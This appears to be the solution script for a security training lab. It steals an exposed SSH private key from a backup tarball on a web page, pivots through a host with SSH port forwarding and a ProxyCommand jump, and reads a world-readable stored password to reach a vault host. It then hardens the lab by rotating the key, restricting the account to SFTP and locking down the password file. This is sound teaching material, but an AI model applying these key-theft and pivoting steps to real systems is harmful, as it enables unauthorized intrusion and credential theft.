#!/bin/sh
# The solution: solve.sh [INSTANCE], from the folder of the lab. It does what a student would.
set -eu
lab=$(dirname "$0")/.. instance=${1:-default}

on() {
  labctl exec --instance "$instance" "$lab" "$@"
}

# 1: the page's source names the copy of deploy's home, in which there is a key
on attacker -- sh -ec '
  mkdir -p /root/.ssh && cd /root
  printf "StrictHostKeyChecking accept-new\nBatchMode yes\n" >.ssh/config
  curl -fsS http://10.62.1.10/ | grep -o "/old/[a-z.]*"
  curl -fsS http://10.62.1.10/old/deploy.tar | tar -xf - -C /root deploy/.ssh/id_ed25519
  ssh -i deploy/.ssh/id_ed25519 deploy@10.62.1.10 cat note.txt >note.txt'

# 2: the depot reaches the vault, and its SSH server connects to whatever it is asked for
on attacker -- sh -ec '
  cd /root
  ssh -i deploy/.ssh/id_ed25519 -f -N -M -S /run/pivot -L 8000:10.62.2.20:80 deploy@10.62.1.10 >/dev/null 2>&1
  curl -fsS http://127.0.0.1:8000/ >page.html
  ssh -S /run/pivot -O exit deploy@10.62.1.10'

# 3: everybody may read the nightly job and its password. A jump (-J) is a forward with an SSH connection in it; here the
# key of the first hop is not where ssh looks for it, so the same is written as a ProxyCommand.
on attacker -- sh -ec '
  cd /root
  password=$(ssh -i deploy/.ssh/id_ed25519 deploy@10.62.1.10 /opt/ledger/askpass)
  printf "#!/bin/sh\necho \"%s\"\n" "$password" >askpass
  chmod 700 askpass
  export SSH_ASKPASS=/root/askpass SSH_ASKPASS_REQUIRE=force
  setsid --wait ssh -o BatchMode=no -o PubkeyAuthentication=no \
    -o ProxyCommand="ssh -i deploy/.ssh/id_ed25519 -W %h:%p deploy@10.62.1.10" clerk@10.62.2.20 cat gold.txt >gold.txt'

# 4: a new key for deploy, made where its owner sits; the old one goes, and so does the copy
public=$(on desk -- sh -ec '
  mkdir -p /root/.ssh
  printf "StrictHostKeyChecking accept-new\nBatchMode yes\n" >/root/.ssh/config
  [ -e /root/.ssh/id_ed25519 ] || ssh-keygen -q -t ed25519 -N "" -C desk -f /root/.ssh/id_ed25519
  cat /root/.ssh/id_ed25519.pub')
printf '%s\n' "$public" | on depot -- sh -ec '
  cat >/home/deploy/.ssh/authorized_keys
  rm -rf /srv/web/old /home/deploy/.ssh/id_ed25519 /home/deploy/.ssh/id_ed25519.pub'

# 5: deploy puts files there and does nothing else. The forced command alone would still let it forward.
on depot -- sh -ec '
  printf "Match User deploy\n\tForceCommand internal-sftp\n\tDisableForwarding yes\n" >/etc/ssh/sshd_config.d/10-deploy.conf
  sshd -t
  systemctl restart ssh'

# 6: another password, which nobody but the job can read
password=$(head -c 18 /dev/urandom | base64)
printf 'clerk:%s\n' "$password" | on vault -- chpasswd -c SHA512
printf "#!/bin/sh\necho '%s'\n" "$password" | on depot -- sh -ec '
  umask 077
  chmod 700 /opt/ledger
  cat >/opt/ledger/askpass
  chmod 700 /opt/ledger/askpass
  systemctl start ledger.service'
